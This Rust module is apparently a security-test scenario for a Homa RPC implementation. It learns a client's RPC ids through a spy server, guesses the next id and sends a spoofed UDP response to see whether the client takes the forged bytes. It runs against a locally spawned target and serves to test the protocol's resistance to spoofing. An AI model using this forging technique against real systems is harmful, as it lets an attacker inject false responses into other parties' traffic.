//! `forge`: a client calls the target server A. The attacker learns one of
//! the client's RPC ids by running a server B the client also calls (B sees
//! the id), guesses the next one (+2), and sends the client a forged
//! response for it while A is still working on the real one (A answers
//! these requests late on purpose). Tried twice: forged from A's own
//! address and port, then from A's address with another port. Reports
//! whether the client took the forged bytes as its response.

use crate::craft::{self, RawSender};
use crate::report::Report;
use crate::target::{slow_request, Target};
use crate::{Env, Error, Result};
use bytes::Bytes;
use homa_wire::AckEntry;
use serde::Serialize;
use std::net::{SocketAddr, SocketAddrV4};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// How late A answers, so the forged response arrives first (ms).
pub const SERVER_DELAY_MS: u32 = 300;
/// The forged response's bytes.
pub const FORGED: &[u8] = b"FORGED RESPONSE: the attacker wrote this";

/// One attempt.
#[derive(Debug, Clone, Serialize)]
pub struct Attempt {
    /// Where the forged response claimed to come from.
    pub forged_from: String,
    /// The client id B observed on the previous RPC.
    pub observed_id: u64,
    /// The id the attacker guessed for the next RPC.
    pub guessed_id: u64,
    /// The id the client actually used.
    pub actual_id: u64,
    /// The client returned the forged bytes as the response.
    pub accepted: bool,
    /// What the client got instead: "real response", an error, …
    pub outcome: String,
}

/// What happened.
#[derive(Debug, Clone, Serialize)]
pub struct ForgeReport {
    /// Forged from A's address and port.
    pub same_port: Attempt,
    /// Forged from A's address, another port.
    pub other_port: Attempt,
}

impl Report for ForgeReport {
    fn title(&self) -> String {
        "forge: a guessed RPC id (previous + 2) and a forged response".into()
    }

    fn rows(&self) -> Vec<(String, String)> {
        let mut rows = Vec::new();
        for (name, a) in [
            ("same port", &self.same_port),
            ("other port", &self.other_port),
        ] {
            rows.push((format!("{name}: forged from"), a.forged_from.clone()));
            rows.push((
                format!("{name}: observed / guessed / actual id"),
                format!("{} / {} / {}", a.observed_id, a.guessed_id, a.actual_id),
            ));
            rows.push((
                format!("{name}: forged response accepted"),
                if a.accepted { "YES" } else { "no" }.into(),
            ));
            rows.push((format!("{name}: client got"), a.outcome.clone()));
        }
        rows
    }
}

/// The attacker's own server B: echoes and records the client ids it sees.
struct Spy {
    ep: homa::Endpoint,
    seen: Arc<Mutex<Vec<u64>>>,
}

impl Spy {
    fn start() -> Result<Spy> {
        let ep = homa::Endpoint::bind(
            "127.0.0.1:0".parse().expect("literal"),
            homa::Config::default(),
        )?;
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (e, s) = (ep.clone(), seen.clone());
        std::thread::spawn(move || loop {
            match e.recv_request(Some(Duration::from_millis(100))) {
                Ok(req) => {
                    // The server knows the RPC as client id ^ 1.
                    s.lock()
                        .unwrap_or_else(|p| p.into_inner())
                        .push(req.id.id ^ 1);
                    let _ = e.reply(req.id, req.message);
                }
                Err(homa::Error::Timeout) => {}
                Err(_) => return,
            }
        });
        Ok(Spy { ep, seen })
    }

    fn last_seen(&self) -> Option<u64> {
        self.seen
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .last()
            .copied()
    }
}

impl Drop for Spy {
    fn drop(&mut self) {
        self.ep.shutdown();
    }
}

fn attempt(
    raw: &mut RawSender,
    client: &homa::Endpoint,
    spy: &Spy,
    server: SocketAddrV4,
    forged_from: SocketAddrV4,
) -> Result<Attempt> {
    client.call(
        spy.ep.local_addr(),
        Bytes::from_static(b"hello B"),
        Duration::from_secs(2),
    )?;
    let observed_id = spy
        .last_seen()
        .ok_or_else(|| Error::Target("the spy server saw no request".into()))?;
    let guessed_id = observed_id.wrapping_add(2);
    let body = slow_request(SERVER_DELAY_MS, b"real request to A");
    let id = client.send_request(SocketAddr::V4(server), body.clone())?;
    let client_port = client.local_addr().port();
    let client_addr = match client.local_addr() {
        SocketAddr::V4(a) => a,
        SocketAddr::V6(_) => unreachable!("bound to 127.0.0.1"),
    };
    let forged = craft::data_packet(
        forged_from.port(),
        client_port,
        guessed_id | 1,
        FORGED.len() as u32,
        FORGED.len() as u32,
        0,
        FORGED,
        AckEntry::default(),
    );
    std::thread::sleep(Duration::from_millis(5));
    raw.send_udp(forged_from, client_addr, &forged)?;
    let r = client.recv_response(
        id,
        Some(Duration::from_millis(u64::from(SERVER_DELAY_MS) + 2_000)),
    );
    let (accepted, outcome) = match r {
        Ok(b) if &b[..] == FORGED => (true, "the forged response".to_string()),
        Ok(b) if b == body => (false, "the real response".to_string()),
        Ok(b) => (false, format!("{} unexpected bytes", b.len())),
        Err(e) => {
            let _ = client.abort(id);
            (false, format!("error: {e}"))
        }
    };
    Ok(Attempt {
        forged_from: forged_from.to_string(),
        observed_id,
        guessed_id,
        actual_id: id.id,
        accepted,
        outcome,
    })
}

/// Runs the scenario against an already running target.
pub fn run_against(env: &Env, target: &Target) -> Result<ForgeReport> {
    let mut raw = RawSender::new()?;
    let spy = Spy::start()?;
    let client = homa::Endpoint::bind(
        "127.0.0.1:0".parse().expect("literal"),
        homa::Config::default(),
    )?;
    let server = target.addr_v4();
    env.say("forging a response from the server's own port");
    let same_port = attempt(&mut raw, &client, &spy, server, server)?;
    let other = SocketAddrV4::new(*server.ip(), server.port().wrapping_add(1).max(1));
    env.say("forging a response from another port");
    let other_port = attempt(&mut raw, &client, &spy, server, other)?;
    client.shutdown();
    Ok(ForgeReport {
        same_port,
        other_port,
    })
}

/// Runs the scenario.
pub fn run(env: &Env) -> Result<ForgeReport> {
    RawSender::new()?;
    let target = Target::spawn(&env.exe)?;
    run_against(env, &target)
}
